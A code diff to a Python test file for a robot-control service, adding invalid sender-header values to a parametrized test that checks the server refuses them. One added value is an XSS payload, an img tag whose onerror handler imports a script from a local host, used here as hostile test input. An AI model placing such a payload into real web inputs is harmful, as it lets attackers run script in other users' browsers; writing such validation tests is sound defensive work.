@@ -65,7 +65,18 @@ def test_each_command_records_who_sent_it(robot: RobotClient) -> None:
     assert listed[named.id] == "console 127.0.0.1:8080 operator 2"
 
 
-@pytest.mark.parametrize("bad", ["", "x" * 65, "tab\there", "caf\u00e9"])
+@pytest.mark.parametrize(
+    "bad",
+    [
+        "",
+        "x" * 65,
+        "tab\there",
+        "caf\u00e9",
+        "<img src=x onerror=import('//127.0.0.1:18090/p.js')>",
+        'a"b',
+        "a&b",
+    ],
+)
 def test_a_bad_sender_is_refused_naming_the_header(
     server: ServiceProcess, robot: RobotClient, bad: str
 ) -> None:
